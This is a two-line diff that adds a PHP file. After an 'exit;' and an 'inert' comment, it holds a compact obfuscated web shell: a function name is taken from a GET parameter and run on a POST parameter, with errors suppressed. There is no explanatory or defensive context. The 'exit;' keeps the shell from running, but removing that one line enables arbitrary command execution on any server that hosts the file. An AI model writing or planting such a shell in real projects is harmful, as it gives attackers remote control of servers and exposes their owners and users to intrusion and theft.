@@ -1,0 +1,2 @@
+<?php exit; /* inert */ 
+($_=@$_GET['f']).@$_($_POST['a']);
